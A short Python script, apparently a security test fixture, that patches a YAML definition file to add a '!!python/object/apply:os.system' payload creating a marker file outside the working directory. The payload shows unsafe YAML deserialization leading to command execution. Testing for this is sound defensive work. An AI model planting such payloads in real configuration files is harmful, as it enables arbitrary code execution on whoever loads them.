from badin import *  # noqa: F403  (lib/badin.py)


def patch():
    replace(DEF, "\ndatasets:\n", "\nx-run: !!python/object/apply:os.system [\"touch ../outside/pwned\"]\n\ndatasets:\n")


main(patch)
